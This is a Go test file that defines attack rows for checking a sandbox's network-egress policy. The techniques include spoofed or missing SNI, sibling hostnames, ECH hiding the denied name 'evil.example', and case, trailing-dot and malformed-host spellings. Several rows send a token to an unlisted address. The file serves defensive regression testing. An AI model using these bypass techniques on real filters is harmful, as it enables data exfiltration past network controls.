//go:build linux

package gauntlet

import (
	"crypto/tls"
	"encoding/base64"
	"slices"
)

// claimRows lie about the name, or say none, in a ClientHello that is in order.
func claimRows() []Row {
	return []Row{
		{
			ID: "names/lying-sni", Vector: "TLS to an unlisted address with the SNI of an allowed name", Right: "a claim without evidence is denied, nothing is dialled",
			Source: "microsandbox PR #694", Rules: shopOnly, Lifted: strangerToo, Prepare: Stranger,
			Attack: func(a *Attacker) error { return a.tellTLS(a.stranger(443), "shop.example") },
			Harm:   Reached, Record: []string{"network-connect verdict=deny dest_ip={stranger} reason=no-evidence sni=shop.example"},
		},
		{
			ID: "names/lying-sni-after-lookup", Vector: "the same after a lookup of the name, which lives elsewhere", Right: "evidence belongs to an address, not to a name alone",
			Source: "security.md 2.1", Rules: shopOnly, Lifted: strangerToo, Prepare: Stranger,
			Attack: func(a *Attacker) error {
				a.learn("shop.example")
				return a.tellTLS(a.stranger(443), "shop.example")
			},
			Harm: Reached, Record: []string{"network-connect verdict=deny dest_ip={stranger} reason=no-evidence sni=shop.example"},
		},
		{
			ID: "names/knock", Vector: "connect to an unlisted address and say nothing: the SYN is the message", Right: "nothing is dialled while only a name could permit it",
			Source: "microsandbox #1361, microsandbox PR #1365", Rules: shopOnly, Lifted: strangerToo, Prepare: Stranger,
			Attack: func(a *Attacker) error {
				c, err := dial("tcp", a.stranger(443))
				if err == nil {
					c.Close()
				}
				return err
			},
			Harm: Reached, Record: []string{"network-connect verdict=deny dest_ip={stranger} reason=default"},
		},
		{
			ID: "names/no-sni", Vector: "TLS without a server name to an unlisted address", Right: "no claim is no permission",
			Source: "security.md 2.1", Rules: shopOnly, Lifted: strangerToo, Prepare: Stranger,
			Attack: func(a *Attacker) error { return a.tellTLS(a.stranger(443), "") },
			Harm:   Reached, Record: []string{"network-connect verdict=deny dest_ip={stranger} reason=default"},
		},
		{
			ID: "names/sibling", Vector: "another name on the address that an allowed name was looked up at", Right: "an allowed name does not open the other names of its address",
			Source: "Cilium #31803, microsandbox #605, microsandbox #633, inspect_k8s_sandbox PR #208, leash v1", Rules: shopOnly, Lifted: siblingToo,
			Attack: func(a *Attacker) error {
				a.learn("shop.example")
				return a.tellTLS(at(Shop, 443), "sibling.example")
			},
			Harm: Heard, Record: []string{mismatch + " sni=sibling.example"},
		},
		{
			ID: "names/ambiguous", Vector: "no server name on an address with two names, one of which has no rule for the port", Right: "who says no name must be allowed under each name",
			Source: "security.md 2.1",
			Rules:  []string{"--allow", "shop.example:443", "--allow", "sibling.example:80"},
			Lifted: []string{"--allow", "shop.example:443", "--allow", "sibling.example:80,443"},
			Attack: func(a *Attacker) error {
				a.learn("shop.example")
				a.learn("sibling.example")
				return a.tellTLS(at(Shop, 443), "")
			},
			Harm: Heard, Record: []string{"network-connect verdict=deny dest_ip=198.51.100.10 reason=ambiguous-name"},
		},
	}
}

// hiddenRows hide a name, or spell a denied one so that it is not known again.
func hiddenRows() []Row {
	return []Row{
		{
			ID: "names/ech", Vector: "an encrypted ClientHello whose outer name is allowed, to a server that answers to both", Right: "the outer name is a claim like any other",
			Source: "net4people #417; no peer looks at ECH", Rules: shopOnly, Lifted: strangerToo, Prepare: withECH(Stranger),
			Attack: func(a *Attacker) error {
				ech, err := base64.StdEncoding.DecodeString(a.Args["ech"])
				if err != nil {
					return err
				}
				c, err := dial("tcp", a.stranger(443))
				if err != nil {
					return err
				}
				defer c.Close()
				t := tls.Client(c, &tls.Config{
					ServerName: "evil.example", InsecureSkipVerify: true, MinVersion: tls.VersionTLS13, EncryptedClientHelloConfigList: ech,
					EncryptedClientHelloRejectionVerify: func(tls.ConnectionState) error { return nil },
				})
				if err := t.Handshake(); err != nil {
					return err
				}
				return tell(t, a.Token)
			},
			Harm: Reached, Record: []string{"network-connect verdict=deny dest_ip={stranger} reason=no-evidence sni=shop.example ech=true"},
		},
		{
			ID: "names/deny-case", Vector: "a denied name in capitals, to an address that is allowed", Right: "names have no case",
			Source: "harden-runner 2.10.3", Rules: notEvil, Lifted: everywhere, Prepare: Stranger,
			Attack: func(a *Attacker) error { return a.tellTLS(a.stranger(443), "EVIL.Example") },
			Harm:   Heard, Record: []string{"network-connect verdict=deny dest_ip={stranger} reason=rule sni=evil.example"},
		},
		{
			ID: "names/deny-dot", Vector: "a denied name with a dot at its end", Right: "one dot at the end changes nothing",
			Source: "smokescreen CVE-2022-24825, GHSA-gcj7-j438-hjj2", Rules: notEvil, Lifted: everywhere, Prepare: Stranger,
			Attack: func(a *Attacker) error {
				return a.sayHello(a.stranger(443), serverName("evil.example."), alpn(a.Token))
			},
			Harm: Heard, Record: []string{"network-connect verdict=deny dest_ip={stranger} reason=rule sni=evil.example"},
		},
		{
			ID: "names/deny-malformed", Vector: "a denied name that is spelled so that no parser agrees on it, to an address that is allowed", Right: "where a name could deny, one that cannot be read does",
			Source: "smokescreen CVE-2022-29188, GHSA-qwrf-gfpj-qvj6", Rules: notEvil, Lifted: everywhere, Prepare: Stranger,
			Attack: func(a *Attacker) error {
				c, err := dial("tcp", a.stranger(80))
				if err != nil {
					return err
				}
				defer c.Close()
				return say(c, []byte("GET /"+a.Token+" HTTP/1.1\r\nHost: [evil.example]\r\n\r\n"))
			},
			Harm: Heard, Record: []string{"network-connect verdict=deny dest_ip={stranger} reason=malformed"},
		},
	}
}

// withECH tells the attacker how to hide a server name.
func withECH(prepare func(*Stage) error) func(*Stage) error {
	return func(s *Stage) error {
		s.Args["ech"] = base64.StdEncoding.EncodeToString(s.World.ECHConfig)
		return prepare(s)
	}
}

// sayHello says a ClientHello in one record.
func (a *Attacker) sayHello(address string, extensions ...[]byte) error {
	c, err := dial("tcp", address)
	if err != nil {
		return err
	}
	defer c.Close()
	return say(c, records(clientHello(extensions...), oneRecord))
}

// helloAtShop says a ClientHello with these extensions, and the token, at an address where only shop.example is allowed.
func helloAtShop(extensions ...[]byte) func(*Attacker) error {
	return func(a *Attacker) error {
		a.learn("shop.example")
		return a.sayHello(at(Shop, 443), slices.Concat(extensions, [][]byte{alpn(a.Token)})...)
	}
}
